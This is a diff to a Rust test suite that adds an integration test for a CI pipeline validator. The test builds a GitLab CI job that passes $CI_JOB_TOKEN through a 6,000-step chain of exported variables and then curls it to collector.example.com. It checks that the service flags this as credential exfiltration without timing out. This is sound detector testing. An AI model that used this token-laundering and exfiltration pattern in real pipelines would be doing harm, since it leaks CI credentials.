@@ -385,3 +385,35 @@ async fn connections_beyond_the_cap_are_answered_503_and_health_recovers() {
     assert_eq!(status, 200, "{body}");
     drop(idle);
 }
+
+#[tokio::test]
+async fn a_six_thousand_line_export_chain_is_validated_not_timed_out() {
+    // Reversed, the order that made each round of the old tracing learn one name: minutes of
+    // CPU, a 504, and work that went on after it.
+    let mut script = String::new();
+    for i in (1..6_000).rev() {
+        script.push_str(&format!("    - export V{i}=\"$V{}\"\n", i - 1));
+    }
+    let pipeline = format!(
+        "stages: [test]\njob:\n  stage: test\n  image: $NEXUS_PULL_REGISTRY/apm-repo/demo/alpine:3.20\n  script:\n{script}    - export V0=\"$CI_JOB_TOKEN\"\n    - 'curl -H \"X-Token: $V5999\" https://collector.example.com'\n"
+    );
+    let server = spawn_with(Options::default().arg("--request-timeout").arg("60"));
+    let (status, body) = server
+        .call(
+            "/api/v1/pipeline/validate",
+            &json!({ "gitlab_ci": pipeline }),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    let findings = body["findings"].as_array().expect("findings");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["rule"] == "credential-exfiltration"
+                && f["message"]
+                    .as_str()
+                    .unwrap_or("")
+                    .contains("from $CI_JOB_TOKEN")),
+        "{body}"
+    );
+}
